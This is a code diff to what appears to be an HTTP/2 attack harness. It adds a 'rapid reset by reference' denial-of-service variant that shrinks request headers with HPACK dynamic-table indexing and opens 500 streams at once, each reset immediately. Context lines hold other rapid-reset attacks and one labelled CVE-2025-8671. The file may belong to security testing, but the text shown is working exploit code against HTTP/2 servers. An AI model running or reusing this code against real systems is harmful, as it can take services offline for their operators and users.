@@ -68,7 +68,16 @@ def block_of(method, token=""):
     return blocks[method, token]
 
 
+def by_reference(target, stream):
+    """GetAccount in seven bytes of headers: the first call puts its fields into the table of RFC 7541 2.3.2, and the others refer to them there."""
+    known = wire.fields(GET, target.token)
+    if stream == 1:
+        return b"".join(b"\x40" + wire.literal(*field)[1:] for field in known)
+    return bytes(0x80 | 61 + len(known) - at for at in range(len(known)))
+
+
 rapid_reset = on_streams(lambda target, stream: wire.frame(HEADERS, END_HEADERS, stream, block_of(GET, target.token)) + wire.rst_stream(stream))
+rapid_reset_by_reference = on_streams(lambda target, stream: wire.frame(HEADERS, END_HEADERS, stream, by_reference(target, stream)) + wire.rst_stream(stream), at_once=500)
 rapid_reset_anonymous = on_streams(lambda _, stream: wire.frame(HEADERS, END_HEADERS, stream, block_of(GET)) + wire.rst_stream(stream))
 # CVE-2025-8671: the server is made to reset its own streams.
 reset_by_window = on_streams(lambda _, stream: wire.frame(HEADERS, END_HEADERS, stream, block_of(SIGN_IN)) + wire.window_update(stream, 0x7FFFFFFF))
